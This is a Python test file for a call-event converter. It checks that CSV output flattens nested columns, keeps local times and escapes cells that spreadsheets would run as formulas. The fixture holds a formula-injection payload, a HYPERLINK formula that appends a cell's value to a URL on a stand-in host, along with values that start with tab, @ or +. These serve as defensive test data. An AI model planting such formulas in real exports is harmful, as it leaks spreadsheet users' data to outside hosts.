"""Test the formats of the tables: CSV without nested columns, which no spreadsheet runs as formulas."""

import csv
import gzip
import io
import json
import re
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import csv as arrow_csv

from command import convert, ndjson
from exotel_callback import IST
from exotel_callback._cli.tables import encode, flat
from exotel_callback.arrow import CALL_SCHEMA, SCHEMA, call_table, parse_batches, with_local_times
from helpers import PAGE, encode_json

ATTACK = {
    **PAGE,
    "From": "+919876543210",
    "CustomField": '=HYPERLINK("http://127.0.0.1/?"&A1,"open")',
    "Direction": "\t-1",
    "Legs": [{"Status": "completed", "OnCallDuration": 9}, {"Status": "@busy"}, {"Status": "failed"}],
}
BODIES = [encode_json(ATTACK)[0], b"\xff", b"+no", encode_json({**PAGE, "DateUpdated": "2024-01-15T14:30:45.25"})[0]]


@pytest.fixture
def events():
    (batch,) = parse_batches(pa.record_batch({"body": BODIES}))
    return batch


def read(text):
    """Read CSV as any program does: a list of rows with their header."""
    return [*csv.DictReader(io.StringIO(text))]


@pytest.mark.parametrize("suffix", ["csv", "csv.gz"])
def test_csv_of_events_and_calls(tmp_path, suffix):
    """A row, a field or the header is missing in CSV, or a value isn't that of Parquet."""
    (tmp_path / "in.ndjson").write_bytes(ndjson([(body, None) for body in BODIES]))
    out, calls = tmp_path / f"out.{suffix}", tmp_path / f"calls.{suffix}"
    assert convert(tmp_path / "in.ndjson", out, "--calls", calls)[::2] == (0, "")
    convert(tmp_path / "in.ndjson", tmp_path / "out.parquet", "--calls", tmp_path / "calls.parquet")
    opened = gzip.open if suffix == "csv.gz" else open
    with opened(out, "rt", encoding="utf-8", newline="") as file:
        rows = read(file.read())
    first, bad, other, last = rows
    expected = pq.read_table(tmp_path / "out.parquet").to_pylist()
    assert [row["event_key"] for row in rows] == [row["event_key"] or "" for row in expected]
    assert first["start_time"] == "2024-01-15 08:55:12Z"
    assert last["date_updated"] == "2024-01-15 09:00:45.250000Z"
    assert (first["leg_0_status"], first["leg_0_on_call_duration"], first["leg_1_status"]) == (
        "completed",
        "9",
        "unknown",
    )
    assert [leg["status"] for leg in json.loads(first["other_legs"])] == ["failed"]
    assert [issue["path"] for issue in json.loads(first["issues"])] == ["Direction", "Legs[1].Status"]
    assert (bad["error_type"], bad["error_status_hint"], bad["body"], bad["body_base64"]) == (
        "DecodeError",
        "400",
        "",
        "/w==",
    )
    assert (other["body"], other["body_base64"]) == ("'+no", "")
    with opened(calls, "rt", encoding="utf-8", newline="") as file:
        (call,) = read(file.read())
    expected = pq.read_table(tmp_path / "calls.parquet").to_pylist()
    assert [json.loads(call["events"])] == [row["events"] for row in expected]
    assert [call["outcome"]] == [row["outcome"] for row in expected]


def test_columns_of_csv():
    """A nested column is in CSV, or a column is missing in the header."""
    for schema in (SCHEMA, CALL_SCHEMA):
        table = flat(schema.empty_table())
        assert {str(kind) for kind in table.schema.types} == {"string", "int64", "bool"}
        names = {re.sub(r"^(leg_[01]|error)_.*|_base64$", r"\1", name) for name in table.column_names}
        assert {name.replace("leg_0", "legs") for name in names} - {"leg_1", "other_legs"} == {*schema.names}


def test_local_times_in_csv(events):
    """The time on a clock isn't in CSV, or looks like one in UTC."""
    encoded = encode(events, Path("x.csv"), ZoneInfo("Asia/Kolkata"))
    first = next(iter(csv.reader(io.StringIO(encoded.decode()))))
    names = flat(with_local_times(SCHEMA).empty_table()).column_names
    row = dict(zip(names, first, strict=True))
    assert row["date_updated"].endswith("Z")
    local = datetime.fromisoformat(row["date_updated"]).astimezone(IST).replace(tzinfo=None)
    assert row["date_updated_local"] == str(local)
    assert row["is_settled"] in {"true", "false"}


def test_no_cell_runs_as_a_formula(events):
    """A cell that a sender chose begins as a formula does."""
    for table in (flat(events), flat(call_table(events))):
        for column in table.columns:
            for cell in filter(None, column.to_pylist()):
                assert not re.match(r"\s*[=+\-@]", str(cell))
    assert flat(events)["from_number"][0].as_py() == "'+919876543210"


FULL_WIDTH_EQUALS = "\uff1d"
FORMULAS = ["=", "+", "-", "@", FULL_WIDTH_EQUALS]
IGNORED = [" ", "\t", "\r", "\n", "\0", "\xa0", "\u200b", "\ufeff"]


@given(st.lists(st.sampled_from(["'", *FORMULAS, *IGNORED]), max_size=4).map("".join), st.text())
def test_a_cell_can_be_read_back(start, rest):
    """A cell that was escaped is read back as another value, or one that could run as a formula wasn't escaped."""
    text = start + rest
    cell = flat(pa.table({"custom_field": [text]}))["custom_field"][0].as_py()
    assert cell.removeprefix("'") == text
    if text.lstrip("".join(IGNORED)).startswith(tuple(FORMULAS)):
        assert cell == f"'{text}"
    elif not text.startswith("'") and not any(char in text for char in FORMULAS):
        assert cell == text


def test_csv_is_read_by_arrow(events):
    """A cell with quotes, commas or line ends moves to another column, or an empty string is read as a null."""
    values = ['a "b", c', "line\r\nline", "", None]
    table = pa.table({"custom_field": values, "conversation_duration": pa.array([1, None, 2, 3])})
    encoded = encode(table, type("Target", (), {"name": "x.csv"}))
    options = arrow_csv.ReadOptions(column_names=table.column_names)
    convert_options = arrow_csv.ConvertOptions(strings_can_be_null=True, quoted_strings_can_be_null=False)
    parse_options = arrow_csv.ParseOptions(newlines_in_values=True)
    assert arrow_csv.read_csv(io.BytesIO(encoded), options, parse_options, convert_options) == table
    assert encode(events, None) is None
